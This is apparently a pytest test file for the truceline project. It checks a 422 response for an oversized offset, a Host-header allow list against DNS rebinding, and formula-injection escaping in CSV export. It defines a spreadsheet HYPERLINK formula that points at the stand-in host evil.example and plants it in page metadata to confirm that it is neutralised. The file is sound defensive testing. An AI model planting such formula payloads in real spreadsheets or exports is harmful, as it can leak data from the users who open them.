"""The API and the exports against hostile requests and page metadata (issue 21): an
`offset` beyond 64 bits was a 500 with a traceback in the server log; any Host header was
answered, so a web page could read the store through the analyst's browser by DNS
rebinding; an outlet named "=HYPERLINK(...)" reached the ACLED CSV as a formula."""

from __future__ import annotations

import csv
import http.client
import io
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from robust_support import ARTICLE, ROOT, cli_env, html_page, run_cli

from truceline.serve.api import create_app
from truceline.settings import override_settings
from truceline.store import Store

BEYOND_64_BITS = str(2**64)
FORMULA = '=HYPERLINK("http://evil.example/?leak","Open the source")'


@pytest.fixture(scope="module")
def empty_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("api") / "store.db"
    Store(db).close()
    return db


@pytest.mark.parametrize("endpoint", ["events", "documents", "agreements"])
def test_offset_beyond_64_bits_is_a_clear_422(empty_store, endpoint):
    client = TestClient(create_app(empty_store), base_url="http://localhost")
    response = client.get(f"/api/{endpoint}", params={"offset": BEYOND_64_BITS})
    assert response.status_code == 422
    body = response.json()
    [problem] = body["errors"]
    assert problem["loc"] == ["query", "offset"]
    assert "9223372036854775807" in problem["msg"] and body["detail"].startswith("offset:")
    largest = client.get(f"/api/{endpoint}", params={"offset": str(2**63 - 1)})
    assert largest.status_code == 200 and largest.json()["items"] == []


@pytest.mark.parametrize(
    "host,status",
    [
        ("localhost:8765", 200),
        ("127.0.0.1:8765", 200),
        ("[::1]:8765", 200),
        ("LOCALHOST", 200),
        ("evil.example", 400),
        ("evil.example:8765", 400),
        ("localhost.evil.example", 400),
        ("", 400),
    ],
)
def test_only_allowed_host_names_are_answered(empty_store, host, status):
    client = TestClient(create_app(empty_store), base_url="http://localhost")
    response = client.get("/api/stats", headers={"host": host})
    assert response.status_code == status, response.text
    if status == 400:
        assert "answers only to the host names" in response.json()["detail"]
        assert client.get("/", headers={"host": host}).status_code == 400  # the page too


def test_allowed_hosts_come_from_the_one_settings_list(empty_store):
    with override_settings(allowed_hosts="desk.example, intranet.example"):
        client = TestClient(create_app(empty_store), base_url="http://localhost")
    assert client.get("/api/stats", headers={"host": "desk.example:80"}).status_code == 200
    assert client.get("/api/stats", headers={"host": "localhost"}).status_code == 400
    anyone = TestClient(create_app(empty_store, allowed_hosts=["*"]), base_url="http://x")
    assert anyone.get("/api/stats", headers={"host": "evil.example"}).status_code == 200


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _get(port: int, host: str) -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.putrequest("GET", "/api/stats", skip_host=True)
        conn.putheader("Host", host)
        conn.endheaders()
        return conn.getresponse().status
    finally:
        conn.close()


def test_serve_allow_host_adds_a_name(empty_store):
    port = _free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "truceline.cli", "serve", "--db", str(empty_store)]
        + ["--port", str(port), "--allow-host", "desk.example"],
        cwd=ROOT,
        env=cli_env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                status = _get(port, "localhost")
                break
            except OSError:
                assert server.poll() is None, server.communicate()[1]
                assert time.monotonic() < deadline, "the server did not start"
                time.sleep(0.2)
        assert status == 200
        assert _get(port, f"desk.example:{port}") == 200
        assert _get(port, "evil.example") == 400
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_formula_in_page_metadata_reaches_the_csv_as_text(tmp_path):
    pages = tmp_path / "pages"
    pages.mkdir()
    page = html_page("Shells hit the market in Kafr Nabl", ARTICLE.split("\n\n", 1)[1])
    meta = f'<meta property="og:site_name" content="{FORMULA.replace(chr(34), "&quot;")}">'
    (pages / "market.html").write_bytes(page.replace(b"<head>", b"<head>" + meta.encode()))
    db = tmp_path / "store.db"
    assert run_cli("run", pages, "--db", db, "-q").returncode == 0
    done = run_cli("export", "--db", db, "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert rows and {r["source"] for r in rows} == {"'" + FORMULA}
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number (a negative longitude) may start so
